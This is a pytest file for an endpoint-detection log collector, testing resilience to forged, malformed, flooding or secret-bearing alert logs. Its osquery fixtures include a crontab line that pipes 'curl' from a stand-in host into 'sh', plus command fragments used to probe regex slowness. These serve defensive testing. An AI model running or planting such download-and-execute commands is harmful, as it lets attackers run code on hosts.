# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Logs that somebody forged: half JSON, other types, long lines, deep nesting, floods, and clocks that are wrong."""

from __future__ import annotations

import json
import os
import pathlib
import resource
import time
import typing as t

import hypothesis
import hypothesis.strategies as st
import pytest
from ansible_collections.bulwark.servers.plugins.module_utils import _trust
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts import clamd_log, product_log
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts.collect import collect
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts.fields import NotUnderstoodError
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts.fold import Fold
from ansible_collections.bulwark.servers.plugins.module_utils.edr.model import ProductAlert
from ansible_collections.bulwark.servers.plugins.module_utils.sign_ins import journal_entries
from ansible_collections.bulwark.servers.plugins.plugin_utils import payload
from ansible_collections.bulwark.servers.plugins.plugin_utils.edr import alert_content, alert_findings
from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf import events

from tests.support.edr_alerts import options
from tests.unit.plugins.module_utils.edr.alerts import test_forms
from tests.unit.plugins.plugin_utils.ocsf import schema

_JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=8,
)
_RECORDS = {"falco": test_forms.FALCO, "wazuh": test_forms.WAZUH, "ecs": test_forms.ECS}
_PRODUCTS = {"falco": "falco", "wazuh": "wazuh", "ecs": "elastic_agent"}


@st.composite
def changed(draw: st.DrawFn, record: dict[str, t.Any]) -> dict[str, t.Any]:
    """Return a record in which some values, at any depth, are others."""
    result = {}
    for key, value in record.items():
        choice = draw(st.integers(0, 5))
        if isinstance(value, dict) and choice:
            result[key] = draw(changed(value))
        elif choice > 1:
            result[key] = value
        elif choice:
            result[key] = draw(_JSON)
    return result


@pytest.mark.parametrize("form", sorted(_RECORDS))
@hypothesis.given(data=st.data())
@hypothesis.settings(max_examples=150, suppress_health_check=list(hypothesis.HealthCheck))
def test_any_value_anywhere_is_a_valid_finding_or_is_not_understood(form: str, data: st.DataObject) -> None:
    record = data.draw(changed(_RECORDS[form]))
    source = alert_content.load()[_PRODUCTS[form]].to_source()._replace(floor="informational")
    fold = product_log.Fold()
    try:
        alert = product_log._READERS[form](json.dumps(record), source)
    except NotUnderstoodError:
        return
    if alert is not None:
        fold.add(alert, source)
    for folded in fold.detections():
        if folded.detection is not None:
            (finding,) = alert_findings.make([json.loads(json.dumps(folded.detection))], events.Device("h"), 2e9)
            assert schema.errors(finding) == []


def read(tmp_path: pathlib.Path, content: bytes, product: str = "falco", **changes: t.Any) -> dict[str, t.Any]:
    log = tmp_path / "log"
    log.write_bytes(content)
    return collect(options(tmp_path, products=[product], paths={product: [str(log)]}, **changes), False)


def line(**changes: t.Any) -> bytes:
    return json.dumps({**test_forms.FALCO, **changes}).encode() + b"\n"


def test_what_is_not_understood_is_counted_with_its_reason(tmp_path: pathlib.Path) -> None:
    damaged = [
        b'{"rule": "half',
        b"\xff\xfe\x00",
        b"[" * 100_000,
        b'{"rule": 1}',
        b"null",
        b"\x1b[31mred",
        b'"\\ud800"',
    ]
    result = read(tmp_path, line() + b"\n".join(damaged) + b"\n" + line())
    assert result["edr_alerts"]["alerts"] == 2
    assert result["edr_alerts"]["not_understood"] == len(damaged)
    (entry,) = result["coverage"]
    assert entry["status"] == "partial"
    assert "\x1b" not in json.dumps(entry)
    assert "not understood" in entry["skipped"][0]["reason"]


def test_a_line_without_an_end_neither_fills_the_memory_nor_forges_one(tmp_path: pathlib.Path) -> None:
    forged = line(rule="Forged").rstrip()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    # Wherever the reader gives up waiting for its end, an alert begins.
    content = line() + b" ".join([forged] * (100 * 1024 * 1024 // len(forged))) + b"\n" + line()
    result = read(tmp_path, content)
    del content
    assert [detection["product"]["title"] for detection in result["detections"]] == [test_forms.FALCO["rule"]]
    assert result["detections"][0]["count"] == 2
    assert "longer than any alert" in str(result["coverage"])
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400 * 1024


def test_a_long_line_is_known_in_the_next_run(tmp_path: pathlib.Path) -> None:
    log = tmp_path / "log"
    given = options(tmp_path, products=["falco"], paths={"falco": [str(log)]})
    log.write_bytes(line() + b"x" * (20 * 1024 * 1024))
    first = collect(given, False)
    with log.open("ab") as stream:
        stream.write(line(rule="Forged") + line())
    second = collect({**given, "_token": first["checkpoint"]["token"]}, False)
    assert [detection["product"]["title"] for detection in second["detections"]] == [test_forms.FALCO["rule"]]


def test_a_flood_is_folded_and_every_alert_counted(tmp_path: pathlib.Path) -> None:
    fields = test_forms.FALCO["output_fields"]
    flood = [
        line(rule=f"Rule {number % 20}", output_fields={**fields, "fd.name": f"/tmp/{number}"})
        for number in range(100_000)
    ]
    started = time.process_time()
    result = read(tmp_path, b"".join(flood))
    assert time.process_time() - started < 60
    assert len(result["detections"]) <= 1_001
    assert sum(detection["count"] for detection in result["detections"]) == 100_000
    assert len(json.dumps(result)) < 16 * 1024 * 1024
    assert "A flood was folded" in result["coverage"][0]["note"]


def test_a_host_whose_journal_has_no_file_is_read_from_its_logs(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With Storage=none of journald.conf(5), the directory may be there all the same."""
    # A journal of this machine has no alerts of Sysmon that a test could know.
    monkeypatch.setattr(journal_entries, "DIRECTORIES", (str(tmp_path / "journal"),))
    (tmp_path / "journal" / "0123456789abcdef0123456789abcdef").mkdir(parents=True)
    program, log = tmp_path / "sysmon", tmp_path / "syslog"
    program.touch()
    log.write_text("May  1 12:20:30 web1 sysmon[12]: " + test_forms.SYSMON % "TechniqueID=T1105" + "\n", "utf-8")
    entry = {**alert_content.load()["sysmon"].entry, "programs": [str(program)], "paths": [str(log)]}
    result = collect(options(tmp_path, _content=payload.packed({"sources": [entry]})), False)
    assert [detection["product"]["id"] for detection in result["detections"]] == ["sysmon"]


def test_a_flood_in_the_log_of_clamd_is_read_in_several_runs(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A clamd of this machine must neither be asked nor add its own log.
    monkeypatch.setattr(product_log.clamd_settings, "read", lambda: None)
    log, number = tmp_path / "log", 12_000
    text = "Mon Nov 30 02:49:00 2026 -> %s/%05d: Bulwark.Test(44d88612fea8a8f36de82e1278abb02f:68) FOUND\n"
    folder = "/srv/" + "x" * 100
    log.write_text("".join(text % (folder, each) for each in range(number)), encoding="ascii")
    given = options(tmp_path, products=["clamav"], paths={"clamav": [str(log)]})
    counts, token = [], None
    while not counts or counts[-1]:
        result = collect({**given, "_token": token}, False)
        token = result["checkpoint"]["token"]
        counts.append(sum(detection["count"] for detection in result["detections"]))
        skipped = [entry["reason"] for entry in result["coverage"][0]["skipped"]]
        is_more = skipped == ["clamd matched more than 5000 files; the next run continues there"]
        assert is_more or (skipped == [] and sum(counts) == number)
        assert result["edr_alerts"]["not_understood"] == 0
    assert len(counts) > 2
    assert sum(counts) == number


def test_an_end_below_the_floor_is_no_finding_and_names_what_it_ends() -> None:
    source = alert_content.load()["falco"].to_source()._replace(floor="critical")
    alert = ProductAlert("falco", "x", "x in y", None, "low", "low", uid="7", rule="x", outcome="remediated")
    fold = Fold()
    fold.add(alert, source)
    (folded,) = fold.detections()
    assert (folded.detection, fold.below) == (None, {})
    assert folded.remediated == {
        "alert": "edr_alert_raised",
        "subject": "Falco: x in y",
        "reason": "Falco reports it as remediated",
        "alert_uid": "7",
    }


def test_alerts_below_the_floor_are_only_counted(tmp_path: pathlib.Path) -> None:
    content = line(priority="Critical") + line(priority="Notice") * 3
    result = read(tmp_path, content, floors={"falco": "high"})
    assert [detection["severity"] for detection in result["detections"]] == ["critical"]
    assert result["edr_alerts"]["below_floor"] == {"Falco": 3}


@pytest.mark.parametrize("when", ["2099-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "x", None, 1e308, -1])
def test_a_wrong_clock_loses_no_alert(tmp_path: pathlib.Path, when: t.Any) -> None:
    result = read(tmp_path, line(time=when))
    (finding,) = alert_findings.make(result["detections"], events.Device("h"), 2e9)
    assert finding["end_time"] <= 2e9 * 1000


def test_names_that_drive_a_terminal_are_shown_as_escapes(tmp_path: pathlib.Path) -> None:
    fields = {**test_forms.FALCO["output_fields"], "fd.name": "/tmp/a\n\x1b[2J\u202eb"}
    result = read(tmp_path, line(output_fields=fields, rule="x\x1b[2J"))
    (finding,) = alert_findings.make(result["detections"], events.Device("h"), 2e9)
    assert "\\u001b" not in json.dumps(finding)
    assert "\\u202e" not in json.dumps(finding).replace("\\\\u202e", "")


def test_a_reader_that_fails_on_a_line_reads_the_others(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    read_line = product_log._READERS["falco"]

    def fail(text: str, source: t.Any) -> t.Any:
        if "Bad" in text:
            raise KeyError("bad")
        return read_line(text, source)

    monkeypatch.setattr(product_log, "_READERS", {**product_log._READERS, "falco": fail})
    result = read(tmp_path, line() + line(rule="Bad") + line())
    assert (result["edr_alerts"]["alerts"], result["edr_alerts"]["not_understood"]) == (2, 1)
    assert "KeyError in the reader" in str(result["coverage"])


def test_a_flood_takes_no_place_of_a_severe_alert(tmp_path: pathlib.Path) -> None:
    """An account can make Falco alert on thousands of files before it does what is severe."""
    fields = test_forms.FALCO["output_fields"]

    def alert(name: str, priority: str) -> bytes:
        return line(priority=priority, rule=f"Rule {name}", output_fields={**fields, "fd.name": f"/tmp/{name}"})

    flood = [alert(str(number), "Warning") for number in range(1_500)]
    result = read(tmp_path, b"".join([*flood, alert("planted", "Critical"), *flood[:3]]))
    (severe,) = [each for each in result["detections"] if each["severity"] == "critical"]
    assert severe["subject"].startswith("Falco: Rule planted: /tmp/planted")
    assert severe["evidences"][0]["file"]["path"] == "/tmp/planted"


def test_the_most_severe_of_what_is_folded_is_shown() -> None:
    source = alert_content.load()["falco"].to_source()
    given = ProductAlert("falco", "A", "a", 1.0, "low", "low")
    fold = Fold(most_groups=1)
    fold.add(given, source)
    for number, severity in enumerate(("low", "medium", "low", "low", "low")):
        fold.add(
            given._replace(
                title=f"{severity} {number}",
                subject=str(number),
                severity=severity,
                own_severity=severity,
                evidences=[{"data": {"number": number}}],
            ),
            source,
        )
    (folded,) = [each.detection for each in fold.detections() if each.detection and each.detection["count"] == 5]
    assert folded["evidences"][0] == {"data": {"number": 1}}
    assert "alerted 5 times: medium 1 (its own severity is medium)" in folded["message"]


def test_what_was_dealt_with_long_ago_ends_nothing_of_today() -> None:
    """Defender lists all that it remembers, in an order of its own."""
    source = alert_content.load()["microsoft_defender"].to_source()
    fold = Fold()
    today = ProductAlert("microsoft_defender", "EICAR", "EICAR in /srv/x", 2_000.0, "high", "virus", malware=["EICAR"])
    fold.add(today, source)
    fold.add(today._replace(time=1_000.0, outcome="remediated"), source)
    (folded,) = fold.detections()
    assert folded.remediated is None
    assert folded.detection is not None


@pytest.mark.requires("root")
def test_who_can_write_a_log_can_call_off_no_alert(tmp_path: pathlib.Path) -> None:
    directory = tmp_path / "shared"
    directory.mkdir()
    closed = {**test_forms.ECS, "kibana": {"alert": {"uuid": "a", "workflow_status": "closed"}}}
    blocked = {**test_forms.ECS, "event": {**test_forms.ECS["event"], "type": ["denied"], "outcome": "success"}}
    content = b"".join(json.dumps(each).encode() + b"\n" for each in (blocked, closed))
    own = read(directory, content, "elastic_agent")
    assert [each["reason"] for each in own["remediated"]] == ["Elastic Defend reports it as remediated"]
    directory.chmod(0o777)
    shared = read(directory, content, "elastic_agent")
    assert shared["remediated"] == []
    assert [each["product"]["outcome"] for each in shared["detections"]] == ["detected"]
    assert "2 alerts of Elastic Defend that report something as blocked or remediated" in shared["coverage"][0]["note"]


@pytest.mark.requires("root")
@pytest.mark.parametrize("account", ["wazuh", "web"])
def test_only_a_log_of_the_products_own_account_is_checked_whole(
    account: str, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The test names the account of a number, as a machine without Wazuh has none of its accounts."""
    log = tmp_path / "alerts.json"
    log.write_bytes(b"")
    os.chown(log, 4_242, -1)
    monkeypatch.setattr(_trust, "_account", lambda number: account if number == 4_242 else "root")
    result = collect(options(tmp_path, products=["wazuh"], paths={"wazuh": [str(log)]}), False)
    scope = result["coverage"][0]
    sentence = f"it can be written by {account}, who may have changed its content"
    skipped = [each["reason"] for each in scope["skipped"]]
    assert (sentence in skipped, f"{log}: {sentence}." in str(scope.get("note"))) == (
        account == "web",
        account == "wazuh",
    )


def test_secrets_that_a_product_copies_stay_on_the_host(tmp_path: pathlib.Path) -> None:
    command = "mysql --password=hunter2 -h db"
    copied = {**test_forms.FALCO["output_fields"], "proc.cmdline": command, "proc.pcmdline": command}
    result = read(tmp_path, line(output=f"Shell in a container ({command})", output_fields=copied))
    assert "hunter2" not in json.dumps(result)
    assert result["detections"][0]["evidences"][0]["process"]["cmd_line"] == "mysql --password=*** -h db"


def test_commands_that_differ_in_a_secret_are_two_findings(tmp_path: pathlib.Path) -> None:
    """An intruder can write what a second job does in the place of a password."""
    jobs = [
        {
            "name": "pack_incident_crontab",
            "action": "added",
            "unixTime": 1_777_630_830,
            "columns": {"path": "/etc/crontab", "command": f"curl --password={each} http://192.0.2.9/ | sh"},
        }
        for each in ("one", "two")
    ]
    result = read(tmp_path, b"".join(json.dumps(each).encode() + b"\n" for each in jobs), "osquery")
    subjects = [detection["subject"] for detection in result["detections"]]
    assert len(set(subjects)) == 2
    assert all("--password=*** http" in subject for subject in subjects)


def _job(command: str) -> bytes:
    columns = {"path": "/etc/crontab", "command": command}
    return json.dumps(
        {"name": "pack_crontab", "action": "added", "unixTime": 1_777_630_830, "columns": columns}
    ).encode()


@pytest.mark.parametrize("part", ["curl -o a ", "-o-o-o", "curl -o a curl ", " -o a;a", "sh $(", "base64 -d|a"])
def test_a_command_that_is_written_to_be_searched_for_long_is_not(part: str) -> None:
    """Anybody who has a crontab writes what osquery logs of it."""
    source = alert_content.load()["osquery"].to_source()
    line = _job("curl " + part * (1 << 16)).decode()
    started = time.process_time()
    product_log._READERS["osquery"](line, source)
    assert time.process_time() - started < 3


def test_the_time_is_over_within_a_chunk_and_nothing_is_lost(tmp_path: pathlib.Path) -> None:
    log = tmp_path / "log"
    given = options(tmp_path, products=["falco"], paths={"falco": [str(log)]})
    log.write_bytes(b"".join(line(rule=f"Rule {number}") for number in range(1_000)))
    rules: list[str] = []
    token = None
    tokens: set[str] = set()
    while token not in tokens and len(tokens) < 100:
        result = collect({**given, "_token": token, "time_budget": 1e-9}, False)
        rules += [detection["product"]["rule"] for detection in result["detections"]]
        if "the next run continues there" not in str(result["coverage"]):
            break
        tokens |= {token} if token else set()
        token = result["checkpoint"]["token"]
    assert len(tokens) > 5
    assert sorted(rules) == sorted(f"Rule {number}" for number in range(1_000))


def test_a_name_that_is_cut_between_two_runs_is_one_name() -> None:
    """A flood of entries puts the place where a run stops into the name of a file."""
    first = clamd_log.Reader()
    assert first.read(b"Mon Nov 30 02:49:00 2026 -> /srv/\xff\\a") is None
    state = json.loads(json.dumps(first.state()))
    entry = clamd_log.Reader(state).read(b"b: Bulwark.Test FOUND")
    assert entry is not None
    assert list(entry.names) == [b"/srv/\xff\\a\nb"]
